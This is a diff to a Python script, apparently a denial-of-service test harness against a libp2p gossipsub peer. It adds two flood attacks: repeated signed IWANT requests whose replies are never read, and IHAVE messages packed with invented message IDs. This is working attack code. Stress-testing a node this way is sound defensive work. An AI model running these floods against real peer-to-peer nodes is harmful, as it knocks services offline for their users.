@@ -12,13 +12,14 @@ import sys
 import attacker  # Beside this script.
 import trio
 from libp2p.pubsub.pb import rpc_pb2
+from libp2p.pubsub.pubsub import PUBSUB_SIGNING_PREFIX
 from libp2p.utils.varint import encode_varint_prefixed
 
 TOPIC = "/mutirao/mutirao/calls"
 ATTACK_S = 5  # An attack that the victim makes wait ends all the same.
 
 
-async def flood(host, peer, rpcs):
+async def flood(host, peer, rpcs, pause_s=0):
     """Send RPCs for as long as the victim takes them, on a new stream when one is broken off."""
     stream = None
     with trio.move_on_after(ATTACK_S):
@@ -27,6 +28,7 @@ async def flood(host, peer, rpcs):
             try:
                 stream = stream or await host.new_stream(peer, [attacker.GOSSIP])
                 await stream.write(data)
+                await trio.sleep(pause_s)
             except Exception:  # noqa: BLE001 - libp2p has many, and they all mean the same.
                 stream = None
                 if not host.get_network().get_connections(peer):
@@ -65,6 +67,32 @@ async def many_small_rpcs(host, peer):
     """RPCs of one message each, as fast as they go."""
     rpc = rpc_pb2.RPC(publish=[rpc_pb2.Message(topicIDs=[TOPIC])])
     await flood(host, peer, [rpc] * 30_000)
+
+
+async def many_wishes(host, peer):
+    """Publish a few messages, and ask for them again and again without reading a byte."""
+    own, key = host.get_id().to_bytes(), host.get_private_key()
+    messages = []
+    for number in range(1, 9):
+        made = rpc_pb2.Message(data=bytes(2000), topicIDs=[TOPIC], from_id=own)
+        made.seqno = number.to_bytes(8)
+        signed = PUBSUB_SIGNING_PREFIX.encode() + made.SerializeToString()
+        made.key, made.signature = host.get_public_key().serialize(), key.sign(signed)
+        messages.append(made)
+    wish = rpc_pb2.RPC()
+    wish.control.iwant.add(messageIDs=[one.from_id + one.seqno for one in messages] * 125)
+    await flood(host, peer, [rpc_pb2.RPC(publish=messages), *[wish] * 500], pause_s=0.1)
+
+
+async def many_names(host, peer):
+    """IHAVEs with as many ids as an RPC may hold, all invented."""
+
+    def rpc():
+        made = rpc_pb2.RPC()
+        made.control.ihave.add(topicID=TOPIC, messageIDs=[os.urandom(46) for _ in range(1000)])
+        return made
+
+    await flood(host, peer, (rpc() for _ in range(500)))
 
 
 async def many_streams(host, peer):
